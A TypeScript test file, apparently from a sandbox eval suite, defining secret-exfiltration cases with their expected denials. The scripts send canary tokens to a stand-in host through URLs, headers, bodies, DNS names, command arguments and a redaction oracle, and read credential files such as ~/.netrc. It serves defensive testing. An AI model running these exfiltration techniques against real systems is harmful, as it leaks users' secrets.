/**
 * Class 6: secret exfiltration (security.md), as corpus cases with one expected outcome
 * each. evals/exfil/ runs the same family as a probe with per-technique secrets.
 */
import { redactionOracleScript } from "../../lib/redaction-oracle.js";
import {
  ATTEMPT,
  caseMaker,
  DENIED,
  DYN,
  HOME,
  OK,
  OUTSIDE,
  PROJECT_FILES,
  policy,
  SECURE,
} from "./common.js";

const { add, made } = caseMaker("secret-exfiltration", "c06");

const TOKEN = "EvalCanaryLocalOnlyToken7Hq2Xw9Lp";
const FILE_TOKEN = "EvalCanaryLocalFileToken3Rt8Kz1Vb";
/** A project file marked local-only (vault/**), never read through fs.read by these scripts. */
const VAULT_KEY = "EvalCanaryVaultKeyFile6Pw3Ds8Tn2Gy";
const HOST_SECRET = "EvalCanaryLocalHostAnswer5Nm4Jc6Qd";
const VAULT = { ...HOME, ".config/app/token": `${FILE_TOKEN}\n` };
const BASE = {
  files: PROJECT_FILES,
  home: VAULT,
  outside: OUTSIDE,
  env: { API_TOKEN: TOKEN, AWS_SECRET_ACCESS_KEY: "EvalCanaryDeniedAwsEnv8Yu2" },
  secrets: [HOST_SECRET],
  serve: {
    "/secret": { body: HOST_SECRET },
    "/reflect": { body: HOST_SECRET, headers: { "x-token": HOST_SECRET } },
    "/json": {
      body: JSON.stringify({ token: HOST_SECRET }),
      headers: { "content-type": "application/json" },
    },
  },
};
const SRC = "security.md class 6 (secret exfiltration)";
const OWASP = "OWASP Secrets Management Cheat Sheet";

/** API_TOKEN, ~/.config/app/token and the API (127.0.0.3) are local-only; the canary (127.0.0.1) is a normal allowed host. */
const P_SEALED = (...extra: string[]) => pSealed(["src/**", "out/**", "vault/**"], ...extra);
/** The same with the whole project readable, as many operators write it. */
const P_SEALED_WIDE = (...extra: string[]) => pSealed(["**"], ...extra);
const pSealed = (readAllow: string[], ...extra: string[]) =>
  policy(
    SECURE,
    'requires_approval = ["!subprocess.exec"]',
    "[filesystem]",
    `read_allow = ${JSON.stringify(readAllow)}`,
    'local_only_read = ["~/.config/app/token", "vault/**"]',
    'write_allow = ["out/**", "vault/**"]',
    "[network]",
    'http_get_allow = ["127.0.0.1"]',
    'http_post_allow = ["127.0.0.1"]',
    'local_only_hosts = ["127.0.0.3"]',
    'deny_ips = ["!127.0.0.0/8"]',
    "allow_ports = [{{CANARY_PORT}}, {{API_PORT}}]",
    "[environment]",
    'allow_vars = ["PATH", "LANG"]',
    'local_only_vars = ["API_TOKEN"]',
    "[subprocess]",
    'allow_commands = ["echo", "cat", "grep", "tar", "cp", "git", "base64"]',
    'local_only_commands = ["printenv"]',
    ...extra,
  );

const READ_ALL = `const V = await env.read("API_TOKEN");
const F = await fs.read("~/.config/app/token");
const H = (await net.httpGet("{{API}}/secret")).body;
const ALL = [V, F, H];
`;

const sealedCase = (slug: string, technique: string, source: string, body: string, expect = {}, extra = {}) =>
  add(slug, {
    technique,
    source,
    ...BASE,
    policy: P_SEALED(),
    script: `${DYN}${ATTEMPT}${READ_ALL}${body}`,
    expect: { noRequest: true, ...expect },
    ...extra,
  });

sealedCase(
  "print",
  "console.log of local-only values",
  OWASP,
  `for (const s of ALL) console.log(s, [s], { s });`,
  {
    ...OK,
    output: { $includes: ["[sealed API_TOKEN]"] },
  },
);
sealedCase("return", "returning local-only values as the result", OWASP, `export default { V, F, H };`, {
  ...OK,
});
sealedCase("throw", "throwing a local-only value", OWASP, `throw F;`, { kind: "script_error", exit: 1 });
sealedCase(
  "error-message",
  "an Error built from a local-only value",
  "CWE-209",
  `throw new Error("token=" + V);`,
  {
    kind: "script_error",
    exit: 1,
  },
);
sealedCase(
  "coercions",
  "String(), template, JSON.stringify, concatenation, length",
  SRC,
  `
const out = [];
for (const s of ALL) for (const f of [(x) => String(x), (x) => \`\${x}\`, (x) => JSON.stringify(x), (x) => x + "", (x) => x.length, (x) => [...x]]) {
  try { out.push(f(s)); } catch (e) { out.push(e.name); }
}
export default out;`,
  { ...OK },
);
sealedCase(
  "base64-manual",
  "base64 by hand over charCodeAt",
  "OWASP WSTG (encoding)",
  `
const enc = (s) => { let b = ""; for (let i = 0; i < s.length; i++) b += s.charCodeAt(i).toString(16); return b; };
export default ALL.map((s) => { try { return enc(s); } catch (e) { return e.name; } });`,
  { ...OK },
);
sealedCase(
  "to-canary-url",
  "a local-only value in the URL to a normal host",
  "PortSwigger: out-of-band exfiltration",
  `
export default [await attempt(() => net.httpGet(sealed\`{{CANARY}}/\${V}\`)), await attempt(() => net.httpGet(sealed\`{{CANARY}}/?k=\${F}\`))];`,
  {
    ...OK,
    value: ["policy_violation", "policy_violation"],
  },
);
sealedCase(
  "to-canary-header",
  "a local-only value as a header to a normal host",
  "PortSwigger: out-of-band exfiltration",
  `
export default await attempt(() => net.httpGet("{{CANARY}}/", { headers: { authorization: sealed\`Bearer \${V}\` } }));`,
  {
    ...OK,
    value: "policy_violation",
  },
);
sealedCase(
  "to-canary-body",
  "a local-only value as the body to a normal host",
  "PortSwigger: out-of-band exfiltration",
  `
export default [await attempt(() => net.httpPost("{{CANARY}}/", H)), await attempt(() => net.httpPost("{{CANARY}}/", { nested: [V] }))];`,
  {
    ...OK,
    value: ["policy_violation", { $regex: "^(policy_violation|script_error)$" }],
  },
);
sealedCase(
  "dns-exfil-host",
  "a local-only value as a host name (DNS exfiltration)",
  "PortSwigger: DNS-based out-of-band exfiltration",
  `
export default await attempt(() => net.httpGet(sealed\`http://\${V}.127.0.0.1.nip.io:{{CANARY_PORT}}/\`));`,
  {
    ...OK,
    value: "policy_violation",
  },
);
sealedCase(
  "to-normal-file",
  "writing a local-only value to a normal file",
  OWASP,
  `await fs.write("out/token.txt", V);`,
  {
    ...DENIED,
    absent: ["out/token.txt"],
  },
);
sealedCase(
  "to-local-only-file",
  "writing a local-only value to a local-only, writable file (allowed)",
  "script-api.md (sealed values may land in local_only_read paths)",
  `
await fs.write("vault/copy.txt", sealed\`token=\${V}\`);
export default String(await fs.exists("vault/copy.txt"));`,
  { ...OK, value: "true", files: { "vault/copy.txt": `token=${TOKEN}` } },
);
sealedCase(
  "to-command-argv",
  "a local-only value in a normal command's argv",
  "GTFOBins",
  `await subprocess.exec(["echo", V]);`,
  { ...DENIED },
);
sealedCase(
  "to-command-env",
  "a local-only value in a normal command's env",
  "GTFOBins",
  `await subprocess.exec(["echo", "x"], { env: { LANG: V } });`,
  { ...DENIED },
);
sealedCase(
  "to-command-stdin",
  "a local-only value on a normal command's stdin",
  "GTFOBins",
  `await subprocess.exec(["base64"], { stdin: F });`,
  { ...DENIED },
);
sealedCase(
  "local-only-command-echo",
  "a local-only command (printenv) that echoes the value: sealed output",
  "security.md class 6",
  `
const r = await subprocess.exec(["printenv", "API_TOKEN"]);
console.log(r.stdout);
export default { code: r.code, again: await attempt(() => net.httpPost("{{CANARY}}/", r.stdout)) };`,
  { ...OK, value: { code: 0, again: "policy_violation" } },
);
sealedCase(
  "local-only-host-reflects",
  "a local-only host that reflects the value back: sealed body and headers",
  "security.md class 6",
  `
const r = await net.httpPost("{{API}}/reflect", V, { headers: { "x-a": V } });
console.log(r.status, r.body, r.headers);
export default { sent: await attempt(() => net.httpPost("{{CANARY}}/", r.headers["x-token"])) };`,
  { ...OK, value: { sent: "policy_violation" } },
);
sealedCase(
  "local-only-json",
  "r.json() of a local-only answer",
  "security.md class 6",
  `
const r = await net.httpGet("{{API}}/json");
export default await attempt(() => r.json());`,
  { ...OK, value: "TypeError" },
);
sealedCase(
  "denied-env",
  "env.read of a denied variable (AWS_SECRET_ACCESS_KEY)",
  "security.md class 6",
  `console.log(await env.read(dyn("AWS_SECRET_ACCESS_KEY")));`,
  {
    ...DENIED,
  },
);
sealedCase(
  "unlisted-env",
  "env.read of a variable the policy does not list",
  "security.md class 6",
  `console.log(await env.read(dyn("HOME")));`,
  { ...DENIED },
);
sealedCase(
  "cat-local-only-file",
  "cat of a local-only file by a normal command",
  "GTFOBins cat",
  `await subprocess.exec(["cat", dyn("{{HOME}}/.config/app/token")]);`,
  { ...DENIED },
);
sealedCase(
  "cp-local-only-file",
  "cp of a local-only file to a normal path",
  "GTFOBins cp",
  `await subprocess.exec(["cp", dyn("vault/key.txt"), "out/key.txt"]);`,
  {
    ...DENIED,
    absent: ["out/key.txt"],
  },
  { files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` } },
);
sealedCase(
  "grep-directory-with-local-only",
  "grep -r over a directory that contains a local-only file",
  "GTFOBins grep",
  `
const r = await subprocess.exec(["grep", "-r", "-h", "EvalCanary", dyn(".")]);
console.log(r.stdout);`,
  {},
  {
    policy: P_SEALED_WIDE(),
    files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` },
    secrets: [HOST_SECRET, VAULT_KEY],
  },
);
sealedCase(
  "tar-directory-with-local-only",
  "tar of a directory containing a local-only file, then read the archive",
  "GTFOBins tar",
  `
const r = await subprocess.exec(["tar", "-cf", "-", dyn("vault/..")]);
console.log(r.stdout.replace(/\\u0000+/g, " "));`,
  {},
  {
    policy: P_SEALED_WIDE(),
    files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` },
    secrets: [HOST_SECRET, VAULT_KEY],
  },
);
sealedCase(
  "git-show-committed-local-only",
  "git show HEAD:vault/key.txt of a committed local-only file",
  "git docs (gitrevisions <rev>:<path>)",
  `
const r = await subprocess.exec(["git", "show", dyn("HEAD:vault/key.txt")]);
console.log(r.stdout);`,
  {},
  {
    policy: P_SEALED_WIDE(),
    files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` },
    secrets: [HOST_SECRET, VAULT_KEY],
    git: true,
  },
);
sealedCase(
  "hardlink-to-local-only",
  "cat of a pre-existing hard link (readable name) to a local-only file",
  "CWE-62 (hard link); GTFOBins cat",
  `
const r = await subprocess.exec(["cat", dyn("src/notes.txt")]);
console.log(r.stdout);`,
  {},
  {
    policy: P_SEALED_WIDE(),
    files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` },
    hardlinks: { "src/notes.txt": "vault/key.txt" },
    secrets: [HOST_SECRET, VAULT_KEY],
  },
);
sealedCase(
  "byte-range-redaction-oracle",
  "2-byte reads of a local-only file + redacted denial messages recover it",
  "Vaudenay 2002 (adaptive chosen-plaintext oracle) applied to the redactor",
  `
${redactionOracleScript("vault/key.txt", (v) => `net.httpGet("{{CANARY}}/?v=" + ${v})`)}
export default { recovered: got.length };`,
  { exit: 0, noRequest: false },
  {
    files: { ...PROJECT_FILES, "vault/key.txt": `${VAULT_KEY}\n` },
    secrets: [HOST_SECRET, VAULT_KEY],
  },
);
sealedCase(
  "no-output-after-read",
  "runtime.no_output_after_local_only_read: printing after a local-only read",
  "policy.md (no_output_after_local_only_read)",
  `console.log("derived", typeof V);`,
  {
    kind: "policy_violation",
  },
  { policy: P_SEALED("[runtime]", "no_output_after_local_only_read = true") },
);
sealedCase(
  "no-output-after-read-network",
  "runtime.no_output_after_local_only_read: a request after a local-only read",
  "policy.md (no_output_after_local_only_read)",
  `await net.httpGet("{{CANARY}}/ping");`,
  {
    kind: "policy_violation",
  },
  { policy: P_SEALED("[runtime]", "no_output_after_local_only_read = true") },
);

add("lifted-netrc", {
  technique: "~/.netrc made local-only (lifting the preset deny): usable, never shown",
  source: "policy.md (local_only_read replaces an identical inherited deny)",
  ...BASE,
  policy: policy(SECURE, "[filesystem]", 'local_only_read = ["~/.netrc"]'),
  script: `const n = await fs.read("~/.netrc"); console.log(n); export default { n };`,
  expect: { ...OK },
});

add("dotenv-local-only", {
  technique: ".env made local-only: sealed; .env.local stays denied",
  source: "policy.md (local_only_read lifts bare .env)",
  ...BASE,
  files: { ...PROJECT_FILES, ".env.local": "LOCAL=EvalCanaryDotenvLocal7Zq" },
  secrets: ["EvalCanaryDotenvLocal7Zq", "EvalCanaryDbPw3k9"],
  policy: policy(SECURE, "[filesystem]", 'read_allow = ["src/**"]', 'local_only_read = [".env"]'),
  script: `${DYN}${ATTEMPT}const e = await fs.read(".env"); console.log(e);
export default { local: await attempt(() => fs.read(dyn(".env.local"))) };`,
  expect: { ...OK, value: { local: "policy_violation" } },
});

add("audit-shows-labels", {
  technique: "a sealed URL and argv to local-only sinks: the audit log shows labels only",
  source: "audit.md (sealed values appear as [sealed NAME])",
  ...BASE,
  policy: P_SEALED(),
  script: `const V = await env.read("API_TOKEN");
await net.httpGet(sealed\`{{API}}/secret?k=\${V}\`);
await subprocess.exec(["printenv", V]);`,
  expect: { ...OK, audit: [{ cap: "net.http_get", target: "[sealed API_TOKEN]" }] },
});

export const SECRET_EXFILTRATION = made;
